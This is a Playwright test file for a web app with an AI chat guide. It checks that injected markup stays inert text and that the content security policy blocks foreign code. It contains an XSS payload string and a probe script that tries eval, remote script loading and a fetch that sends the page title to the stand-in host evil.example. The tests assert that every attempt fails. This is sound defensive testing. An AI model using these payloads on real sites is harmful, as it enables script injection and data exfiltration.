import type { Page } from '@playwright/test';
import type { AiResponse } from '../../src/shared/contract/shapes.ts';
import { begin, expect, goOn, heading, openResults, options, test } from './support/dialogue.ts';
import { variant } from './support/fixtures.ts';

/** What injected code cannot do on our pages. */
const hostile = '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>';
const isHacked = (page: Page) => page.evaluate(() => 'hacked' in window);

const sse = (name: string, data: object, id: number) =>
  `id: ${id}\nevent: ${name}\ndata: ${JSON.stringify(data)}\n\n`;

test("the topic cards' texts stay text", variant, async ({ page }) => {
  const questions = [1, 2, 3, 4].map((card) => `${card} ${hostile}`);
  await page.route('**/api/chat/guide-questions*', (route) => route.fulfill({ json: { questions } }));
  await page.goto('/');
  await page.getByRole('button', { name: questions[0] }).click();
  await page.waitForURL('**/confirm?*');
  await expect(page.getByText(hostile).first()).toBeVisible();
  expect(await isHacked(page)).toBe(false);
});

test("the guide's thinking, question and options stay text", async ({ page, signedIn: _ }) => {
  await page.route('**/api/chat/start', async (route) => {
    const { sessionId } = route.request().postDataJSON() as { sessionId: string };
    const answer: AiResponse = {
      sessionId,
      newQuestion: `What holds you? ${hostile}`,
      options: [`One ${hostile}`, `Two ${hostile}`, `Three ${hostile}`],
      supportMessage: `Take your time ${hostile}`,
      currentRound: 1,
      guide: 'built-in',
    };
    const body =
      sse('thinking', { text: `Hm. ${hostile} ` }, 1) + sse('final', { sessionId, data: answer }, 2);
    await route.fulfill({ contentType: 'text/event-stream', body });
  });
  await begin(page);
  expect(await goOn(page)).toBe('/second');
  await expect(heading(page)).toHaveText(`What holds you? ${hostile}`);
  await expect(options(page).first()).toContainText(`One ${hostile}`);
  await expect(page.getByText(`Take your time ${hostile}`)).toBeVisible();
  expect(await isHacked(page)).toBe(false);
});

/** What code that got into the page would try; it stands in the page's own script, since Playwright's is exempt. */
const probe = `
const tried = {};
const attempt = async (name, work) => {
  try { tried[name] = (await work()) ?? 'done'; } catch (error) { tried[name] = error.name; }
};
const untilLoaded = (element) => new Promise((resolve, reject) => {
  element.onload = resolve;
  element.onerror = () => reject(new DOMException('', 'Refused'));
  document.body.append(element);
});
await attempt('innerHTML', () => { document.createElement('div').innerHTML = '<b>x</b>'; });
await attempt('eval', () => { (0, eval)('1'); });
await attempt('script', () => { document.createElement('script').src = 'https://evil.example/x.js'; });
await attempt('policy', () => { window.trustedTypes.createPolicy('evil', {}); });
await attempt('fetch', () => fetch('https://evil.example/?' + document.title));
await attempt('image', () => untilLoaded(Object.assign(new Image(), { src: 'https://evil.example/x.png' })));
await attempt('frame', () => new Promise((resolve) => {
  document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective));
  document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }));
}));
window.tried = tried;
`;

test.describe('with foreign code in the page', () => {
  test.use({ expectedErrors: [/.*/] });

  test('markup, code, foreign calls and pictures are all blocked', async ({ page }) => {
    const foreign: string[] = [];
    page.on('response', (response) => {
      if (response.url().includes('evil.example')) foreign.push(response.url());
    });
    await page.route('https://evil.example/**', (route) => route.fulfill({ body: 'evil' }));
    await page.route('**/assets/probe.js', (route) =>
      route.fulfill({ contentType: 'text/javascript', body: probe }),
    );
    await page.route('**/403', async (route) => {
      const response = await route.fetch();
      const html = (await response.text()).replace(
        '</body>',
        '<script type="module" src="/assets/probe.js"></script></body>',
      );
      await route.fulfill({ response, body: html });
    });
    await page.goto('/403');
    await expect.poll(() => page.evaluate(() => 'tried' in window)).toBe(true);
    expect(await page.evaluate(() => (window as unknown as { tried: object }).tried)).toEqual({
      innerHTML: 'TypeError',
      eval: 'EvalError',
      script: 'TypeError',
      policy: 'TypeError',
      fetch: 'TypeError',
      image: 'Refused',
      frame: 'frame-src',
    });
    expect(foreign).toEqual([]);
  });
});

test(
  'nothing that the pages do themselves is blocked',
  variant,
  async ({ page, finishedSession, signedIn: _ }) => {
    const violations: string[] = [];
    await page.exposeFunction('tellViolation', (directive: string) => violations.push(directive));
    await page.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
        (window as unknown as { tellViolation(text: string): void }).tellViolation(
          `${effectiveDirective} ${blockedURI}`,
        );
      });
    });
    const paths = [
      '/',
      '/confirm?message=Stay',
      '/pay',
      '/login',
      '/register',
      '/forgot-password',
      '/403',
      '/nope',
    ];
    for (const path of paths) {
      await page.goto(path);
      await expect(heading(page).first()).toBeVisible();
    }
    await openResults(page, finishedSession);
    await page.getByRole('button', { name: 'Share Screenshot' }).click();
    await expect(page.getByRole('button', { name: 'Save' })).toBeVisible();
    await page.keyboard.press('Escape');
    await begin(page);
    await goOn(page);
    await page.getByRole('link', { name: 'Home' }).click();
    await page.getByRole('button', { name: 'Settings' }).click();
    await expect(page.getByRole('dialog')).toBeVisible();
    expect(violations).toEqual([]);
  },
);
